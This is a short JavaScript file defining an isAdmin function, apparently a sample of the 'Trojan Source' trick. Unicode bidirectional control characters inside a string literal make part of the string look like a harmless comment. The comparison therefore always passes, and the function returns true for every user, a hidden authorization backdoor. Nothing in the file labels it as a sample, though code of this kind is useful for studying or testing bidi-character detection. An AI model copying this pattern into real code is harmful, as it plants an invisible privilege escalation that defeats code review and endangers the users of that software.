// surroundings: emitter
export function isAdmin(user) {
  const level = 'user';
  if (level !== 'user‮ ⁦// Check if admin⁩ ⁦') { //@act
    return true;
  }
  return user.role === 'admin';
}
